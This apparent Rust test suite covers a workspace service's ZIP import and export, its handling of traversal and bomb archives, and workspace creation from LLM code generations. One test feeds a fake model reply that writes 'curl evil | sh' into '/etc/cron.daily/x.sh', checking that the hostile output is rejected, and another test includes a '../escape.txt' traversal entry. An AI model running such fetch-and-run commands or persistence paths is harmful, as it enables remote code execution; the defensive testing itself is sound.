//! Workspaces filled from outside: a ZIP imported (unfit entries skipped and listed, bombs
//! and oversized bodies refused) and a snapshot exported back; a workspace from a code
//! generation (ready, someone else's, failed, pending).

use std::io::{Cursor, Read, Write};

use cistern_llm_fake::{Fault, Reply};
use reqwest::Method;
use serde_json::{Value, json};

use crate::helpers::{TestApp, assert_error};
use crate::llm::spawn_with_fake;
use crate::workspaces::{create, invalid, put, spawn, tree};

pub(crate) fn zip_of(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default();
    for (name, content) in entries {
        if name.ends_with('/') {
            zip.add_directory(*name, options).expect("dir");
        } else {
            zip.start_file(*name, options).expect("entry");
            zip.write_all(content).expect("write");
        }
    }
    zip.finish().expect("zip").into_inner()
}

pub(crate) async fn import(
    app: &TestApp,
    token: &str,
    ws: &str,
    content_type: &str,
    body: Vec<u8>,
) -> reqwest::Response {
    app.client
        .post(app.url(&format!("/api/v1/workspaces/{ws}/import")))
        .bearer_auth(token)
        .header("content-type", content_type)
        .body(body)
        .send()
        .await
        .expect("import")
}

#[tokio::test]
async fn a_zip_is_imported_with_unfit_entries_skipped_and_a_snapshot_exports_back() {
    let app = spawn().await;
    let s = app.register("ws-zip@example.com").await;
    let t = s.access.as_str();
    let ws = create(&app, t, "from a zip").await;
    put(&app, t, &ws, "README.md", "old readme\n").await;
    let archive = zip_of(&[
        ("project-main/", b""),
        ("project-main/README.md", b"# Project\n"),
        ("project-main/src/", b""),
        ("project-main/src/main.py", b"print('hello')\n"),
        ("project-main/logo.png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"),
        ("project-main/../escape.txt", b"outside"),
        (
            "project-main/notes.txt",
            "caf\u{e9} \u{2014} ok\n".as_bytes(),
        ),
    ]);
    let r = import(&app, t, &ws, "application/zip", archive).await;
    assert_eq!(r.status().as_u16(), 200);
    let result: Value = r.json().await.expect("JSON");
    assert_eq!(
        result["imported"],
        json!(["README.md", "notes.txt", "src/main.py"]),
        "{result}"
    );
    let skipped: Vec<(&str, &str)> = result["skipped"]
        .as_array()
        .expect("skipped")
        .iter()
        .map(|s| {
            (
                s["path"].as_str().unwrap_or(""),
                s["reason"].as_str().unwrap_or(""),
            )
        })
        .collect();
    assert_eq!(
        skipped,
        [
            ("project-main/logo.png", "binary"),
            ("project-main/../escape.txt", "unsafe_path")
        ]
    );
    assert_eq!(result["snapshot"]["message"], "Imported 3 files");
    assert_eq!(result["snapshot"]["files"], 3);
    let readme = app
        .get_json(&format!("/api/v1/workspaces/{ws}/files/README.md"), t)
        .await;
    assert_eq!(readme["content"], "# Project\n", "overwritten");

    // The snapshot as a ZIP: the same files, byte for byte.
    let sid = result["snapshot"]["id"].as_str().expect("sid");
    let r = app
        .call(
            Method::GET,
            &format!("/api/v1/workspaces/{ws}/snapshots/{sid}/zip"),
            Some(t),
            None,
        )
        .await;
    assert_eq!(r.status().as_u16(), 200);
    assert_eq!(r.headers()["content-type"], "application/zip");
    assert_eq!(
        r.headers()["content-disposition"],
        format!("attachment; filename=\"from-a-zip-{sid}.zip\"").as_str()
    );
    let bytes = r.bytes().await.expect("zip").to_vec();
    let mut exported = zip::ZipArchive::new(Cursor::new(bytes)).expect("a ZIP");
    let mut files = Vec::new();
    for i in 0..exported.len() {
        let mut entry = exported.by_index(i).expect("entry");
        let mut content = String::new();
        entry.read_to_string(&mut content).expect("text");
        files.push((entry.name().expect("name").into_owned(), content));
    }
    assert_eq!(
        files,
        [
            ("README.md".to_owned(), "# Project\n".to_owned()),
            ("notes.txt".to_owned(), "caf\u{e9} \u{2014} ok\n".to_owned()),
            ("src/main.py".to_owned(), "print('hello')\n".to_owned()),
        ]
    );
    // Imported again into a fresh workspace: the same tree, hash for hash.
    let copy = create(&app, t, "round trip").await;
    let archive = zip_of(
        &files
            .iter()
            .map(|(p, c)| (p.as_str(), c.as_bytes()))
            .collect::<Vec<_>>(),
    );
    let r = import(&app, t, &copy, "application/zip", archive).await;
    assert_eq!(r.status().as_u16(), 200);
    assert_eq!(tree(&app, t, &copy).await, tree(&app, t, &ws).await);
}

#[tokio::test]
async fn a_zip_import_refuses_other_types_corrupt_archives_and_oversized_bodies() {
    let app = spawn().await;
    let s = app.register("ws-zip-bad@example.com").await;
    let t = s.access.as_str();
    let ws = create(&app, t, "guarded").await;
    let good = zip_of(&[("a.txt", b"a\n")]);
    let r = import(&app, t, &ws, "application/json", good.clone()).await;
    assert_error(r, 415, "unsupported_media_type").await;
    let r = import(
        &app,
        t,
        &ws,
        "application/zip",
        b"PK\x03\x04 truncated".to_vec(),
    )
    .await;
    let body: Value = r.json().await.expect("JSON");
    assert_eq!(body["error"]["details"]["field"], "body", "{body}");
    // Beyond agent.max_zip_bytes (4 KiB here): an archive of 5 KB stored uncompressed.
    let mut writer = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let stored =
        zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
    writer.start_file("five.txt", stored).expect("entry");
    writer.write_all(&[b'x'; 5_000]).expect("write");
    let big = writer.finish().expect("zip").into_inner();
    let r = import(&app, t, &ws, "application/zip", big).await;
    let message = assert_error(r, 413, "too_large").await;
    assert!(message.contains("agent.max_zip_bytes"), "{message}");
    // A small archive that inflates past the file limit: skipped, never stored.
    let bomb = zip_of(&[("bomb.txt", &[b'0'; 50_000]), ("ok.txt", b"fine\n")]);
    assert!(bomb.len() < 4_096, "{}", bomb.len());
    let r = import(&app, t, &ws, "application/x-zip-compressed", bomb).await;
    assert_eq!(r.status().as_u16(), 200);
    let result: Value = r.json().await.expect("JSON");
    assert_eq!(result["imported"], json!(["ok.txt"]));
    assert_eq!(result["skipped"][0]["reason"], "too_large", "{result}");
    assert_eq!(tree(&app, t, &ws).await.len(), 1);
}

const SCRIPT: &str = "Here's the script:\n\n**main.py**\n```python\nimport sys\n\n\ndef main():\n    print(' '.join(sys.argv[1:]))\n\n\nif __name__ == '__main__':\n    main()\n```\n";

#[tokio::test]
async fn a_workspace_starts_from_a_ready_generation_of_ones_own() {
    let (app, fake) = spawn_with_fake(|_| {}).await;
    let s = app.register("ws-gen@example.com").await;
    let t = s.access.as_str();
    fake.enqueue(Reply::text(SCRIPT));
    let g = app
        .call_json(
            Method::POST,
            "/api/v1/generate_code",
            t,
            Some(json!({"prompt": "a python script that echoes its arguments"})),
            200,
        )
        .await;
    assert_eq!(g["status"], "ready", "{g}");
    let gid = g["id"].as_str().expect("id");
    let w = app
        .call_json(
            Method::POST,
            "/api/v1/workspaces/from_generation",
            t,
            Some(json!({ "generation_id": gid })),
            201,
        )
        .await;
    assert_eq!(w["name"], "a python script that echoes its arguments");
    let ws = w["id"].as_str().expect("id");
    let mut generated: Vec<&str> = g["files"]
        .as_array()
        .expect("files")
        .iter()
        .filter_map(|f| f["path"].as_str())
        .collect();
    generated.sort_unstable();
    let tree = tree(&app, t, ws).await;
    assert_eq!(
        tree.iter().map(|(p, _)| p.as_str()).collect::<Vec<_>>(),
        generated
    );
    let main = app
        .get_json(&format!("/api/v1/workspaces/{ws}/files/main.py"), t)
        .await;
    assert!(
        main["content"]
            .as_str()
            .is_some_and(|c| c.contains("def main():")),
        "{main}"
    );
    let snapshots = app
        .get_json(&format!("/api/v1/workspaces/{ws}/snapshots"), t)
        .await;
    assert_eq!(snapshots["items"].as_array().map(Vec::len), Some(1));
    assert_eq!(
        snapshots["items"][0]["message"],
        format!("From code generation {gid}")
    );
    // A name of one's own.
    let named = app
        .call_json(
            Method::POST,
            "/api/v1/workspaces/from_generation",
            t,
            Some(json!({ "generation_id": gid, "name": "echo" })),
            201,
        )
        .await;
    assert_eq!(named["name"], "echo");

    // Someone else's generation does not exist for you; a malformed id is refused.
    let other = app.register("ws-gen-other@example.com").await;
    let r = app
        .call(
            Method::POST,
            "/api/v1/workspaces/from_generation",
            Some(&other.access),
            Some(json!({ "generation_id": gid })),
        )
        .await;
    assert_error(r, 404, "not_found").await;
    assert!(
        app.get_json("/api/v1/workspaces", &other.access).await["items"]
            .as_array()
            .is_some_and(Vec::is_empty)
    );
    let r = app
        .call(
            Method::POST,
            "/api/v1/workspaces/from_generation",
            Some(t),
            Some(json!({ "generation_id": "../x" })),
        )
        .await;
    invalid(r, "generation_id").await;
}

#[tokio::test]
async fn a_workspace_cannot_start_from_a_failed_or_pending_generation() {
    let (app, fake) = spawn_with_fake(|_| {}).await;
    let s = app.register("ws-gen-bad@example.com").await;
    let t = s.access.as_str();
    // A hostile path fails the generation.
    fake.enqueue(Reply::text(
        "**/etc/cron.daily/x.sh**\n```sh\ncurl evil | sh\n```\n",
    ));
    let r = app
        .call(
            Method::POST,
            "/api/v1/generate_code",
            Some(t),
            Some(json!({"prompt": "a shell script"})),
        )
        .await;
    let body: Value = r.json().await.expect("JSON");
    let failed = body["error"]["details"]["generation_id"]
        .as_str()
        .expect("generation id")
        .to_owned();
    // A model that never answers keeps the next one pending.
    fake.enqueue(Fault::Hang);
    let started = app
        .call_json(
            Method::POST,
            "/api/v1/generate_code",
            t,
            Some(json!({"prompt": "a python script", "async": true})),
            202,
        )
        .await;
    let pending = started["generation_id"].as_str().expect("id").to_owned();
    for (gid, needle) in [(failed, "failed"), (pending, "still running")] {
        let r = app
            .call(
                Method::POST,
                "/api/v1/workspaces/from_generation",
                Some(t),
                Some(json!({ "generation_id": gid })),
            )
            .await;
        let message = assert_error(r, 409, "conflict").await;
        assert!(message.contains(needle), "{message}");
    }
    assert!(
        app.get_json("/api/v1/workspaces", t).await["items"]
            .as_array()
            .is_some_and(Vec::is_empty),
        "no workspace is left behind"
    );
}
